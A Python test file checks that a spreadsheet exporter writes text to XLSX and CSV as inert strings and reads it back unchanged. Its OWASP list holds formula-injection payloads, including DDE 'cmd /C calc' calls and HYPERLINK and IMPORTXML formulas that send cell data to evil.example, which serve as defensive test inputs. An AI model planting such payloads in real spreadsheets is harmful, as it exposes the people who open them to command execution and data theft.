"""Words that a spreadsheet would act on, or cannot hold: shown as words, read back unchanged."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from extractor.config import PlanSettings
from extractor.domain import Action
from extractor.plan.cells import (
    EXCEL_LIMIT,
    clean_text,
    guard_text,
    is_dangerous,
    split_text,
    unguard_text,
    utf16_length,
)
from extractor.plan.exporter import workbook_bytes
from extractor.plan.grids import grids_of_workbook
from extractor.plan.importer import PlanImport, import_grids, import_tracker
from extractor.plan.layout import find_layouts
from extractor.plan.package import Package
from extractor.plan.text_formats import plan_csv
from extractor.plan_view import PlanView
from tests.plan.trackers import parts_of, saved
from tests.plan.views import AS_OF

OWASP = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Error: please click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    '","=1+1',
    "'=1+1",
    "''=1+1",
    "{=1+1}",
    "http://evil.example",
    "mailto:a@example.test",
    "internal:Sheet2!A1",
    "_x0041_",
    "_x005F_x0041_",
    "_x000D_",
    "<r><t>x</t></r>",
    "<r></r>",
    "&amp;&#x41;",
    "]]>",
    "‮drow",
    "a\x00b\x0bc\x1fd\ufffee",
    "line\r\nline\rline\nline",
    " two  blanks ",
    "😀" * 3,
    "#N/A",
    "1e5",
    "007",
    "12/03/2026",
    "TRUE",
)
TEXTS = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@\t\r\n'_x<>&\"＝"), max_size=40)


def view_of(texts: list[str]) -> PlanView:
    actions = [Action(f"A{at}", "x", progress=text, extra={"Own": text}) for at, text in enumerate(texts)]
    return PlanView(AS_OF, actions=tuple(actions))


def from_workbook(content: bytes) -> PlanImport:
    grids = grids_of_workbook(Package(content, "t.xlsx"))
    return import_grids(grids, find_layouts(grids, PlanSettings()))


def expected(text: str) -> str:
    """What must come back: without what XML cannot hold, line ends folded; blanks around a cell are not kept."""
    return clean_text(text).strip()


def assert_comes_back(texts: list[str], found: PlanImport) -> None:
    by_ref = {action.ref: action for action in found.actions}
    for at, text in enumerate(texts):
        action = by_ref[f"A{at}"]
        assert action.progress == expected(text), repr(text)
        assert action.extra.get("Own", "") == expected(text), repr(text)


def test_owasp_s_cases_are_words_in_a_workbook_and_come_back(tmp_path: Path) -> None:
    content = workbook_bytes(view_of(list(OWASP)))
    assert_comes_back(list(OWASP), from_workbook(content))
    cells = [cell for row in load_workbook(io.BytesIO(content))["Actions"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    dangerous = [cell for cell in cells if cell.value is not None and is_dangerous(str(cell.value))]
    assert dangerous and all(cell.style and cell.quotePrefix for cell in dangerous)


def test_owasp_s_cases_are_words_in_a_csv_and_come_back(tmp_path: Path) -> None:
    content = plan_csv(view_of(list(OWASP)))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row if is_dangerous(cell)]
    assert_comes_back(list(OWASP), import_tracker(saved(tmp_path, content, "t.csv")))


def test_an_export_links_to_nothing_and_runs_nothing() -> None:
    parts = parts_of(workbook_bytes(view_of(list(OWASP))))
    assert not [
        name for name in parts if "externalLink" in name or "vba" in name.lower() or "hyperlink" in name.lower()
    ]
    assert not [name for name, data in parts.items() if name.endswith(".rels") and b'TargetMode="External"' in data]
    assert b"<hyperlink" not in b"".join(parts.values())


@settings(max_examples=8, deadline=None)
@given(st.lists(TEXTS, min_size=40, max_size=40))
def test_any_words_come_back_from_a_workbook(texts: list[str]) -> None:
    assert_comes_back(texts, from_workbook(workbook_bytes(view_of(texts))))


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_a_guard_is_taken_away_again_and_leaves_nothing_to_act_on(text: str) -> None:
    assert unguard_text(guard_text(text)) == text
    assert not is_dangerous(guard_text(text))


@pytest.mark.slow
@settings(max_examples=100, deadline=None)
@given(st.lists(TEXTS, min_size=100, max_size=100))
def test_ten_thousand_texts_come_back_from_workbook_and_csv(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    view = view_of(texts)
    assert_comes_back(texts, from_workbook(workbook_bytes(view)))
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    path.write_bytes(plan_csv(view))
    assert_comes_back(texts, import_tracker(path))


@pytest.mark.parametrize("length", [EXCEL_LIMIT - 1, EXCEL_LIMIT, EXCEL_LIMIT + 1, 100_000])
@pytest.mark.parametrize("letter", ["x", "é", "😀"])
def test_text_beyond_a_cell_is_kept_whole(length: int, letter: str) -> None:
    text = f"begin {letter * length} end"
    content = workbook_bytes(view_of([text, "short"]))
    assert_comes_back([text, "short"], from_workbook(content))
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        assert all(utf16_length(str(cell.value)) <= EXCEL_LIMIT for row in sheet.iter_rows() for cell in row)


def test_text_that_looks_continued_is_not_taken_for_it() -> None:
    text = "the end [continued in sheet Long text: L1]"
    assert_comes_back([text], from_workbook(workbook_bytes(view_of([text]))))


@given(st.text(max_size=60), st.integers(2, 9))
def test_pieces_join_up_and_fit(text: str, limit: int) -> None:
    pieces = split_text(text, limit)
    assert "".join(pieces) == text
    assert all(utf16_length(piece) <= limit for piece in pieces)


def test_a_marking_that_begins_with_figures_is_no_size_of_letters() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(replace(view_of(["x"]), marking="5 EYES ONLY"))))
    assert book["Actions"].oddHeader.center.text == "5 EYES ONLY" and book["Actions"].oddHeader.center.size == 12


def test_a_long_marking_is_cut_in_the_footer_and_whole_on_the_sheet() -> None:
    marking = "OFFICIAL-SENSITIVE & NOT FOR PUBLICATION " * 4
    book = load_workbook(io.BytesIO(workbook_bytes(replace(view_of(["x"]), marking=marking, force="A & B " * 40))))
    assert book["Actions"]["A1"].value == marking
    assert book["Actions"].oddFooter.center.text.startswith("OFFICIAL-SENSITIVE && NOT FOR PUBLICATION")


def test_the_marking_and_the_force_s_name_are_words_too() -> None:
    view = replace(view_of(["x"]), marking="=OFFICIAL&D", force='=cmd|"x"!A1')
    book = load_workbook(io.BytesIO(workbook_bytes(view)))
    for sheet in book.worksheets:
        assert sheet["A1"].value == "=OFFICIAL&D" and sheet["A1"].data_type == "s"
        assert sheet.oddHeader.center.text == "=OFFICIAL&&D"
